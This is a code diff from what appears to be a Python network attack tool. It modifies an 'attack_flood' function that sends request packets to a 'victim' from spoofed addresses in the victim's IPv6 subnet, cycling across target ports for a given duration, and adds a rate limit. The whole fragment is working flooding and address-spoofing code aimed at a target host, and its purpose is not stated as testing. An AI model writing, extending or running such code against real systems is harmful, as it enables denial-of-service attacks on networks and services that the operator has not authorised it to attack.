@@ -273,12 +273,13 @@ def attack_too_long(wire, victim, peer, mtu, times=20):
     path_mtu_of_request(wire, dst)
 
 
-def attack_flood(wire, victim, ports, seconds, hosts):
-    """REQs from that many addresses of the victim's subnet (IPv6) in turn, by turns to these ports."""
+def attack_flood(wire, victim, ports, seconds, hosts, rate=1e9):
+    """REQs from that many addresses of the victim's subnet (IPv6) in turn, by turns to these ports, at most `rate` in a second."""
     dst, ports, n = address(victim), [int(p) for p in ports.split(",")], 0
     subnet = dst[:8] + os.urandom(4)
-    end = time.monotonic() + float(seconds)
-    while time.monotonic() < end:
+    begin = time.monotonic()
+    while (now := time.monotonic() - begin) < float(seconds):
+        time.sleep(max(0, n / float(rate) - now))
         src = subnet + struct.pack("!I", n % int(hosts))
         try:
             wire.send(src, dst, req(ports[n % len(ports)], src, dst, cma_header(src, dst)))
